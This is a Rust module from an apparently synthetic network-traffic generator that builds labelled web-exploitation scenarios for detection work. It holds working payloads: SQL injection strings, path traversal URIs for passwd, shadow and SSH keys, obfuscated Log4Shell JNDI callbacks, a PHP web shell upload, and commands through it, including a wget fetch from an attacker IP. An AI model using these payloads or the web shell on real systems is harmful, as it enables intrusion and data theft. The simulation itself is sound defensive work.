//! Exploitation of the public web server (T1190): SQL injection, path
//! traversal, Log4Shell JNDI lookups, and a web-shell upload and use
//! (T1505.003).

use crate::background::{group, Group};
use crate::engine::Source;
use crate::labels::{Cidr, Label};
use crate::net::Host;
use crate::proto::http;
use crate::rng::Rng;
use crate::scenarios::{at, label, Ctx, ParamSpec, Params, Scenario, ScenarioError};
use crate::sessions::{self, MS};
use crate::tcp::Close;

/// sqlmap-style SQL injection probes.
pub struct WebSqli;
/// Path traversal attempts.
pub struct WebTraversal;
/// Log4Shell `${jndi:` injection.
pub struct WebLog4shell;
/// Web shell upload and commands.
pub struct WebShellUpload;

/// SQL injection payloads as they appear in a URI (URL-encoded).
pub const SQLI: [&str; 12] = [
    "1%27%20OR%20%271%27%3D%271",
    "1%20AND%201%3D1--%20-",
    "1%27%20AND%20SLEEP(5)--%20-",
    "1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
    "1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20-",
    "1%20AND%20(SELECT%202*(IF((SELECT%20*%20FROM%20(SELECT%20CONCAT(0x71,(SELECT%20database()),0x71))s),%208446744073709551610,%208446744073709551610)))",
    "-1%27%20OR%203*2*1%3D6%20AND%20000371%3D000371%20--",
    "1%3BSELECT%20PG_SLEEP(5)--",
    "1%27)%20AND%20EXTRACTVALUE(1%2CCONCAT(0x5c%2C0x71%2C(SELECT%20version())))--%20",
    "1%20ORDER%20BY%2010--%20-",
    "admin%27--",
    "1%27%20WAITFOR%20DELAY%20%270%3A0%3A5%27--",
];

/// Path traversal URIs.
pub const TRAVERSAL: [&str; 10] = [
    "/../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/index.php?page=../../../../etc/passwd",
    "/download.php?file=....//....//....//etc/shadow",
    "/view?file=..%5c..%5c..%5cwindows%5cwin.ini",
    "/images/%2e%2e/%2e%2e/%2e%2e/etc/hosts",
    "/api/files?path=/var/www/../../root/.ssh/id_rsa",
    "/index.php?page=php://filter/convert.base64-encode/resource=../config.php",
    "/..%252f..%252f..%252fetc/passwd",
];

/// One attack request and the status the server answers with.
struct Req {
    method: &'static str,
    uri: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
    status: u16,
}

impl Req {
    fn get(uri: String, headers: Vec<(String, String)>, status: u16) -> Req {
        Req {
            method: "GET",
            uri,
            headers,
            body: Vec::new(),
            status,
        }
    }
}

/// The connections of an attack, the attacker and the target.
struct Attack {
    items: Group,
    attacker: Host,
    target: Host,
}

fn exploit_session(
    ctx: &Ctx<'_>,
    p: &Params,
    rng: &mut Rng,
    requests: Vec<Req>,
    per_conn: usize,
    gap_ms: u64,
) -> Result<Attack, ScenarioError> {
    let a = Host::external(p.ip("attacker")?, 64, 16);
    let t_host = ctx.host(p.ip("target")?);
    let host = p.str("host").to_string();
    let rtt = rng.range(150, 260) * MS;
    let mut t = p.start(ctx)?;
    let mut items: Group = Vec::new();
    for chunk in requests.chunks(per_conn.max(1)) {
        let mut ex = Vec::new();
        for (j, r) in chunk.iter().enumerate() {
            let (method, uri, body, status) = (r.method, &r.uri, &r.body, &r.status);
            let hdrs: Vec<(&str, &str)> = r
                .headers
                .iter()
                .map(|(k, v)| (k.as_str(), v.as_str()))
                .collect();
            let ua = hdrs
                .iter()
                .find(|h| h.0 == "User-Agent")
                .map(|h| h.1)
                .unwrap_or("");
            let extra: Vec<(&str, &str)> = hdrs
                .iter()
                .filter(|h| h.0 != "User-Agent")
                .copied()
                .collect();
            let req = http::request(method, &host, uri, ua, &extra, body);
            let len = if *status == 200 {
                rng.range(800, 6_000) as usize
            } else {
                rng.range(150, 400) as usize
            };
            let resp = sessions::http_response(*status, "nginx/1.24.0", "text/html", len, rng);
            ex.push((
                if j == 0 {
                    MS
                } else {
                    rng.range(gap_ms / 2, gap_ms * 3 / 2 + 1) * MS
                },
                req,
                rng.range(5, 60) * MS,
                resp,
            ));
        }
        let mut cfg = sessions::tcp_config(rng, &a, &t_host, 80, t, rtt);
        cfg.close = Close::ClientFin;
        let dur: u64 = ex.iter().map(|e| e.0 + e.2 + 2 * rtt).sum();
        items.push((
            t,
            Box::new(sessions::flow(cfg, sessions::http_messages(ex), rng)),
        ));
        t += dur + rng.range(100, 800) * MS;
    }
    Ok(Attack {
        items,
        attacker: a,
        target: t_host,
    })
}

macro_rules! params {
    ($start:literal, $attacker:literal $(, $extra:expr)*) => {{
        const P: &[ParamSpec] = &[
            at($start),
            ParamSpec { key: "attacker", default: $attacker, doc: "attacking address" },
            ParamSpec { key: "target", default: "10.10.100.10", doc: "web server" },
            ParamSpec { key: "host", default: "congthongtin.so-tt.gov.vn", doc: "Host header" },
            $($extra,)*
        ];
        P
    }};
}

fn finish(s: &dyn Scenario, p: &Params, a: Attack) -> (Box<dyn Source>, Label) {
    let l = label(
        s,
        p,
        vec![Cidr::host(a.attacker.ip)],
        vec![Cidr::host(a.target.ip)],
        Some(80),
        "tcp",
    );
    (group(a.items), l)
}

impl Scenario for WebSqli {
    fn name(&self) -> &'static str {
        "web_sqli"
    }
    fn id(&self) -> u64 {
        17
    }
    fn techniques(&self) -> &'static [&'static str] {
        &["T1190"]
    }
    fn description(&self) -> &'static str {
        "sqlmap-style SQL injection probes in query strings"
    }
    fn params(&self) -> &'static [ParamSpec] {
        params!(
            "0.58",
            "45.135.232.19",
            ParamSpec {
                key: "requests",
                default: "60",
                doc: "number of requests"
            }
        )
    }
    fn build(
        &self,
        ctx: &Ctx<'_>,
        p: &Params,
        mut rng: Rng,
    ) -> Result<(Box<dyn Source>, Label), ScenarioError> {
        let n = p.u64("requests", 1, 1_000_000)? as usize;
        let ua = "sqlmap/1.8.4#stable (https://sqlmap.org)";
        let reqs = (0..n)
            .map(|i| {
                let uri = format!("/tin-tuc.php?id={}", SQLI[i % SQLI.len()]);
                let status = if i % 4 == 3 { 500 } else { 200 };
                Req::get(
                    uri,
                    vec![("User-Agent".to_string(), ua.to_string())],
                    status,
                )
            })
            .collect();
        let a = exploit_session(ctx, p, &mut rng, reqs, 10, 300)?;
        Ok(finish(self, p, a))
    }
}

impl Scenario for WebTraversal {
    fn name(&self) -> &'static str {
        "web_traversal"
    }
    fn id(&self) -> u64 {
        18
    }
    fn techniques(&self) -> &'static [&'static str] {
        &["T1190"]
    }
    fn description(&self) -> &'static str {
        "path traversal attempts for /etc/passwd, win.ini and keys"
    }
    fn params(&self) -> &'static [ParamSpec] {
        params!(
            "0.60",
            "80.94.95.81",
            ParamSpec {
                key: "requests",
                default: "40",
                doc: "number of requests"
            }
        )
    }
    fn build(
        &self,
        ctx: &Ctx<'_>,
        p: &Params,
        mut rng: Rng,
    ) -> Result<(Box<dyn Source>, Label), ScenarioError> {
        let n = p.u64("requests", 1, 1_000_000)? as usize;
        let ua = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0";
        let reqs = (0..n)
            .map(|i| {
                let status = *[404u16, 400, 404, 200].get(i % 4).unwrap_or(&404);
                Req::get(
                    TRAVERSAL[i % TRAVERSAL.len()].to_string(),
                    vec![("User-Agent".to_string(), ua.to_string())],
                    status,
                )
            })
            .collect();
        let a = exploit_session(ctx, p, &mut rng, reqs, 8, 400)?;
        Ok(finish(self, p, a))
    }
}

impl Scenario for WebLog4shell {
    fn name(&self) -> &'static str {
        "web_log4shell"
    }
    fn id(&self) -> u64 {
        19
    }
    fn techniques(&self) -> &'static [&'static str] {
        &["T1190"]
    }
    fn description(&self) -> &'static str {
        "Log4Shell (CVE-2021-44228) JNDI lookups in headers and URIs, plain and obfuscated"
    }
    fn params(&self) -> &'static [ParamSpec] {
        params!(
            "0.63",
            "194.169.175.44",
            ParamSpec {
                key: "requests",
                default: "20",
                doc: "number of requests"
            }
        )
    }
    fn build(
        &self,
        ctx: &Ctx<'_>,
        p: &Params,
        mut rng: Rng,
    ) -> Result<(Box<dyn Source>, Label), ScenarioError> {
        let n = p.u64("requests", 1, 1_000_000)? as usize;
        let cb = p.str("attacker").to_string();
        let payloads = [
            format!("${{jndi:ldap://{cb}:1389/Exploit}}"),
            format!("${{jndi:dns://{cb}/a}}"),
            format!("${{${{lower:j}}ndi:${{lower:l}}dap://{cb}:1389/o}}"),
            format!("${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:rmi://{cb}:1099/x}}"),
        ];
        let reqs = (0..n)
            .map(|i| {
                let pl = &payloads[i % payloads.len()];
                let (uri, headers) = match i % 3 {
                    0 => (
                        "/".to_string(),
                        vec![("User-Agent".to_string(), pl.clone())],
                    ),
                    1 => (
                        "/api/login".to_string(),
                        vec![
                            ("User-Agent".to_string(), "Mozilla/5.0".to_string()),
                            ("X-Api-Version".to_string(), pl.clone()),
                        ],
                    ),
                    _ => (
                        format!(
                            "/?q={}",
                            pl.replace('$', "%24")
                                .replace('{', "%7B")
                                .replace('}', "%7D")
                                .replace(':', "%3A")
                                .replace('/', "%2F")
                        ),
                        vec![
                            ("User-Agent".to_string(), "Mozilla/5.0".to_string()),
                            ("X-Forwarded-For".to_string(), pl.clone()),
                        ],
                    ),
                };
                Req::get(uri, headers, if i % 2 == 0 { 200 } else { 400 })
            })
            .collect();
        let a = exploit_session(ctx, p, &mut rng, reqs, 1, 500)?;
        Ok(finish(self, p, a))
    }
}

impl Scenario for WebShellUpload {
    fn name(&self) -> &'static str {
        "web_shell_upload"
    }
    fn id(&self) -> u64 {
        20
    }
    fn techniques(&self) -> &'static [&'static str] {
        &["T1190", "T1505.003"]
    }
    fn description(&self) -> &'static str {
        "a PHP web shell uploaded through a form, then used to run commands"
    }
    fn params(&self) -> &'static [ParamSpec] {
        params!("0.67", "5.188.206.14")
    }
    fn build(
        &self,
        ctx: &Ctx<'_>,
        p: &Params,
        mut rng: Rng,
    ) -> Result<(Box<dyn Source>, Label), ScenarioError> {
        let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
        let boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW";
        let body = format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"cmd.php\"\r\nContent-Type: application/x-php\r\n\r\n<?php if(isset($_GET['c'])){{system($_GET['c']);}} ?>\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"submit\"\r\n\r\nUpload\r\n--{boundary}--\r\n"
        );
        let h = |ct: Option<String>| {
            let mut v = vec![("User-Agent".to_string(), ua.to_string())];
            if let Some(ct) = ct {
                v.push(("Content-Type".to_string(), ct));
            }
            v
        };
        let mut reqs = vec![
            Req::get("/upload.php".to_string(), h(None), 200),
            Req {
                method: "POST",
                uri: "/upload.php".to_string(),
                headers: h(Some(format!("multipart/form-data; boundary={boundary}"))),
                body: body.into_bytes(),
                status: 200,
            },
        ];
        for cmd in [
            "id",
            "whoami",
            "uname%20-a",
            "cat%20/etc/passwd",
            "ls%20-la%20/var/www/html",
            "wget%20http%3A%2F%2F5.188.206.14%2Fx.sh%20-O%20/tmp/x.sh",
        ] {
            reqs.push(Req::get(format!("/uploads/cmd.php?c={cmd}"), h(None), 200));
        }
        let a = exploit_session(ctx, p, &mut rng, reqs, 8, 3_000)?;
        Ok(finish(self, p, a))
    }
}
